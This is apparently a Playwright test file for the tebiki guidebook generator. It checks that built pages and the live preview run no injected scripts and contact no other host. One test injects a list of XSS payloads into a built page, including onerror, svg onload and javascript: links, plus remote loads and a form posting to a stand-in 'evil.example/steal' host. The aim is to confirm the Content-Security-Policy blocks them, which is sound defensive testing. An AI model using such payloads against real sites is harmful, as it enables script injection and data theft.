// Hostile guidebooks in the reader's browser, run in the accessibility suite's Chromium:
// - every page of tests/fixtures/allowed, clicked through (links, buttons, summaries of
//   the page's main part), runs no script of the chapters, stays on the test origin and
//   asks no other host for anything; the page's policy blocks nothing of its own;
// - `tebiki serve` previewing that guidebook when the attack chapters arrive (as with a
//   contractor's pull request) shows their messages over the page and runs none of them;
// - the Content-Security-Policy itself, as a second line: payloads put straight into a
//   built page, past tebiki's checks, neither run nor reach another host.
//
// TEBIKI_ALLOWED_SITE is the allowed fixture built; TEBIKI_PREVIEW and TEBIKI_PREVIEW_ROOT
// are a running `tebiki serve` of a copy of it and that copy's folder; TEBIKI_ATTACK is
// tests/fixtures/attack. The cargo test tests/accessibility.rs sets them.

import { before, after, test } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import { serve, recordPolicyViolations, violations } from './serve.mjs';

const PWNED = () => window.top.__pwned ?? null;
const screenshots = resolve(process.env.TEBIKI_SCREENSHOTS ?? 'target/screenshots');

/** A browser context that records what a hostile page would do: requests to any other
 * origin (refused), dialogs, and policy violations. */
async function watchedContext(browser, origin) {
  const context = await browser.newContext({ viewport: { width: 360, height: 800 } });
  const seen = { foreign: [], dialogs: [] };
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (new URL(url).origin !== origin) {
      seen.foreign.push(url);
      return route.abort();
    }
    return route.continue();
  });
  await recordPolicyViolations(context);
  context.on('page', (page) => page.on('dialog', (dialog) => seen.dialogs.push(dialog.message()) && dialog.dismiss()));
  return { context, seen };
}

/** Waits for what a click set off (a navigation starts a moment after the click). */
async function settle(page) {
  await page.waitForTimeout(100);
  await page.waitForLoadState('load');
}

/** `page.evaluate`, tried again when a navigation that a click started replaces the page. */
async function inPage(page, fn) {
  for (let attempt = 0; ; attempt++) {
    try {
      await page.waitForLoadState('load');
      return await page.evaluate(fn);
    } catch (error) {
      if (attempt > 20 || !/destroyed|navigat/.test(error.message)) throw error;
      await page.waitForTimeout(100);
    }
  }
}

function pages(root, dir = root) {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) return pages(root, path);
    return name.endsWith('.html') ? [relative(root, path).replace(/index\.html$/, '')] : [];
  });
}

export function hostileTests(env) {
  const allowed = process.env.TEBIKI_ALLOWED_SITE;
  const shared = {};
  before(async () => {
    if (allowed) shared.server = await serve(allowed);
  });
  after(() => shared.server?.close());

  test('every page of the allowed HTML, clicked through, runs nothing and stays on its site', { skip: !allowed && 'TEBIKI_ALLOWED_SITE is not set' }, async () => {
    const origin = new URL(shared.server.url).origin;
    const { context, seen } = await watchedContext(env.browser, origin);
    const page = await context.newPage();
    const report = [];
    let clicked = 0;
    for (const path of pages(allowed).sort()) {
      await page.goto(shared.server.url + path);
      // What a reader can see and press (not what sits in a closed <details>).
      const targets = await page.$$eval('main a[href], main button, main summary', (elements) =>
        elements.map((e, i) => {
          e.dataset.clickTarget = String(i);
          const url = e.href ? new URL(e.href) : null;
          return { i, href: e.getAttribute('href'), protocol: url?.protocol, host: url?.host, visible: e.checkVisibility() };
        }).filter((t) => t.visible),
      );
      for (const target of targets) {
        // A link to another site is the reader's own choice: it must be an ordinary address.
        if (target.href && target.host !== new URL(origin).host) {
          if (!['https:', 'http:', 'mailto:', 'tel:'].includes(target.protocol)) report.push(`${path}: link to ${target.href}`);
          continue;
        }
        // Each click starts from the page as it loads (a summary clicked before may have
        // closed what the next target is in).
        await page.goto(shared.server.url + path);
        await page.$$eval('main a[href], main button, main summary', (elements) => elements.forEach((e, i) => (e.dataset.clickTarget = String(i))));
        await page.click(`[data-click-target="${target.i}"]`, { timeout: 2000, noWaitAfter: true });
        await settle(page);
        clicked++;
        if (new URL(page.url()).origin !== origin) report.push(`${path}: clicking ${target.href} left for ${page.url()}`);
        if (await inPage(page, PWNED)) report.push(`${path}: a script ran after clicking ${target.href}`);
        for (const v of await inPage(page, () => window.__violations ?? ['no recorder'])) report.push(`${page.url()}: policy blocked ${v}`);
      }
      if (await page.evaluate(PWNED)) report.push(`${path}: a script ran`);
      for (const v of await violations(page)) report.push(`${path}: policy blocked ${v}`);
    }
    await context.close();
    assert.deepEqual([...report, ...seen.foreign, ...seen.dialogs], []);
    assert.ok(clicked > 20, `${clicked} things clicked`);
  });

  test('the preview shows the attack chapters of a pull request as messages, and runs none of them', { skip: !process.env.TEBIKI_PREVIEW && 'TEBIKI_PREVIEW is not set' }, async () => {
    const preview = process.env.TEBIKI_PREVIEW;
    const origin = new URL(preview).origin;
    const { context, seen } = await watchedContext(env.browser, origin);
    const page = await context.newPage();
    await page.goto(`${preview}ja/html/details/`);
    assert.equal(await page.locator('#tebiki-problem').count(), 0, 'the preview starts with a good build');
    cpSync(join(process.env.TEBIKI_ATTACK, 'content/ja/attack'), join(process.env.TEBIKI_PREVIEW_ROOT, 'content/ja/attack'), { recursive: true });
    await page.waitForSelector('#tebiki-problem', { timeout: 30000 });
    const messages = await page.textContent('#tebiki-problem');
    for (const said of ['content/ja/attack/handler-next-line.md:9:1', 'onerror', 'javascript:', '<meta>', 'evil.example']) {
      assert.ok(messages.includes(said), `the overlay shows ${said}`);
    }
    const style = await page.evaluate(() => getComputedStyle(document.getElementById('tebiki-problem')).position);
    assert.equal(style, 'fixed', "the overlay's stylesheet applies under the page's policy");
    // The problem page a reader of the preview gets everywhere, while no build has worked.
    for (const path of ['ja/attack/meta-refresh/', 'ja/attack/svg-onload/', 'ja/']) {
      await page.goto(preview + path);
      await page.waitForTimeout(300);
      assert.equal(new URL(page.url()).origin, origin, 'no page sent the reader elsewhere');
    }
    assert.equal(await page.evaluate(PWNED), null);
    assert.deepEqual(await violations(page), []);
    await context.close();
    assert.deepEqual([...seen.foreign, ...seen.dialogs], []);
  });

  test('the preview tells two mistakes in the staff language, wrapped for a phone, the caret under its column', { skip: !process.env.TEBIKI_PREVIEW && 'TEBIKI_PREVIEW is not set' }, async () => {
    const preview = process.env.TEBIKI_PREVIEW;
    const root = process.env.TEBIKI_PREVIEW_ROOT;
    const { context, seen } = await watchedContext(env.browser, new URL(preview).origin);
    const page = await context.newPage();
    // Without the attack chapters the guidebook builds again, and the overlay goes.
    rmSync(join(root, 'content/ja/attack'), { recursive: true, force: true });
    await page.goto(`${preview}ja/html/details/`);
    await page.waitForFunction(() => !document.getElementById('tebiki-problem'), null, { timeout: 30000 });
    // A chapter with two mistakes: an input-method slip after Latin letters, a broken link
    // after Japanese text (the caret must pass under wide characters).
    writeFileSync(join(root, 'content/ja/two-errors.md'),
      '---\ntitle: 二つのまちがい\nsummary：家で受ける医療のことです。\norder: 990\n---\n\nくわしいことは[地域の相談窓口](nowhere.md)に聞いてください。\n');
    try {
      await page.waitForFunction(() => document.querySelectorAll('#tebiki-problem li').length === 2, null, { timeout: 30000 });
      const sent = await overlayFacts(page);
      mkdirSync(screenshots, { recursive: true });
      await page.screenshot({ path: join(screenshots, 'serve-overlay-360.png'), fullPage: false });
      // The same overlay, as the server writes it into a page loaded while the build fails.
      await page.reload();
      const served = await overlayFacts(page);
      assert.deepEqual(served.text, sent.text, 'the script and the server show the same');
      for (const facts of [sent, served]) {
        assert.equal(facts.lang, 'ja', 'the overlay speaks the guidebook language, and says so');
        assert.deepEqual(facts.codes, ['E023', 'E080']);
        assert.ok(facts.text.includes('「summary」のあとのコロンが全角の「：」です'), facts.text);
        assert.ok(facts.text.includes('リンクが指す先が見つかりません'), facts.text);
        assert.ok(facts.width <= facts.room + 1, `the messages wrap within the phone's width: ${facts.width} > ${facts.room}`);
        assert.deepEqual(facts.carets.map((c) => Math.round(Math.abs(c.caret - c.column))), [0, 0], `each caret under its column: ${JSON.stringify(facts.carets)}`);
        assert.ok(facts.carets[1].wide > 0, 'the second caret passes under Japanese text');
      }
    } finally {
      rmSync(join(root, 'content/ja/two-errors.md'), { force: true });
    }
    await context.close();
    assert.deepEqual([...seen.foreign, ...seen.dialogs], []);
  });

  test('past every check, the page policy still stops scripts and other hosts', { skip: !allowed && 'TEBIKI_ALLOWED_SITE is not set' }, async () => {
    const built = readFileSync(join(allowed, 'ja/html/details/index.html'), 'utf8');
    const payloads = [
      '<img src=x.png onerror="window.top.__pwned=1">',
      '<script>window.top.__pwned=1</script>',
      '<svg onload="window.top.__pwned=1"></svg>',
      '<a id=js href="javascript:window.top.__pwned=1">js</a>',
      '<img src="https://evil.example/track.png">',
      '<link rel=stylesheet href="https://evil.example/x.css">',
      '<div style="background:url(https://evil.example/bg.png)">x</div>',
      '<iframe src="https://evil.example/"></iframe>',
      '<form action="https://evil.example/steal"><button id=send>send</button></form>',
      '<base href="https://evil.example/"><a id=relative href="details/">next</a>',
    ].join('\n');
    const tampered = join(allowed, 'ja/html/tampered.html');
    writeFileSync(tampered, built.replace('<div class=prose', `${payloads}<div class=prose`));
    try {
      await tamperedPageIsStopped(env, shared.server.url);
    } finally {
      rmSync(tampered, { force: true });
    }
  });
}

/** Loads ja/html/tampered.html, presses its links and buttons, and checks what the
 * policy stopped. */
async function tamperedPageIsStopped(env, url) {
  const origin = new URL(url).origin;
  const { context, seen } = await watchedContext(env.browser, origin);
  const page = await context.newPage();
  await page.goto(`${url}ja/html/tampered.html`);
  const blocked = await violations(page);
  for (const id of ['#js', '#send', '#relative']) {
    await page.goto(`${url}ja/html/tampered.html`);
    await page.click(id, { timeout: 5000, noWaitAfter: true });
    await settle(page);
    assert.equal(new URL(page.url()).origin, origin, `${id} stays on the site`);
    // #relative is a real link on the site: its navigation may still be replacing
    // the page here, so read the page once it has loaded.
    assert.equal(await inPage(page, PWNED), null, id);
  }
  assert.equal(await inPage(page, PWNED), null);
  for (const directive of ['script-src', 'img-src', 'style-src', 'frame-src', 'base-uri']) {
    assert.ok(blocked.some((v) => v.startsWith(directive)), `the policy blocked by ${directive}: ${blocked.join('; ')}`);
  }
  await context.close();
  assert.deepEqual(seen.foreign, [], 'no request reached another host');
}

/** What the preview's overlay shows: its language, codes and text, how wide its content
 * is against the room it has, and for each source line where the caret is drawn and where
 * the character it points at is (the x of each, in CSS pixels). */
function overlayFacts(page) {
  return page.evaluate(() => {
    const overlay = document.getElementById('tebiki-problem');
    const carets = [...overlay.querySelectorAll('pre')].map((pre) => {
      const node = pre.firstChild;
      const [source, caretLine] = node.textContent.split('\n');
      const at = caretLine.indexOf('^');
      const x = (offset) => {
        const range = document.createRange();
        range.setStart(node, offset);
        range.setEnd(node, offset + 1);
        return range.getBoundingClientRect().left;
      };
      const wide = [...caretLine.slice(0, at)].filter((c) => c === '\u3000').length;
      return { caret: x(source.length + 1 + at), column: x(at), wide };
    });
    return {
      lang: overlay.lang,
      codes: [...overlay.querySelectorAll('.where')].map((p) => p.textContent.match(/\[([EW]\d{3})\]/)[1]),
      text: overlay.textContent,
      width: overlay.scrollWidth,
      room: overlay.clientWidth,
      carets,
    };
  });
}
